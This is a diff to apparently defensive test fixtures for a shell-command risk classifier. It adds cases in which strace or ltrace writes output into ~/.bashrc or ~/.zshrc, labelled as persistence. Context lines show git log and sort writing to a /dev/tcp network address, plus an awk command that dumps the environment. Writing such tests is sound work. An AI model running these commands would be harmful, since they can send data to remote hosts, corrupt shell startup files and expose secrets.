@@ -522,6 +522,10 @@ export const DANGEROUS_CASES: readonly CommandCase[] = [
   // Issue 8: a file an option writes may be a raw network connection.
   ["git log --output=/dev/tcp/203.0.113.1/80", "dangerous", "interpreter_primitives"],
   ["sort -o /dev/tcp/203.0.113.1/80 f", "dangerous", "interpreter_primitives"],
+  // Issue 8: files wrappers write are judged by where they land.
+  ["strace -o ~/.bashrc ls", "dangerous", "persistence"],
+  ["strace -fo ~/.zshrc ls", "dangerous", "persistence"],
+  ["ltrace --output=~/.bashrc ls", "dangerous", "persistence"],
 ];
 
 /** Dangerous commands disguised: wrappers, quoting, paths, chains, nesting, look-alike letters. */
@@ -1230,4 +1234,6 @@ export const NEGATIVE_CASES: readonly CommandCase[] = [
   // Issue 8: BSD in-place sed; awk reading the environment.
   ["sed -I '' 's/a/b/' f", "review"],
   ["awk 'BEGIN{for(k in ENVIRON) print k, ENVIRON[k]}'", "review"],
+  // Issue 8: strace -o elsewhere.
+  ["strace -o /tmp/trace.txt ls", "review"],
 ];
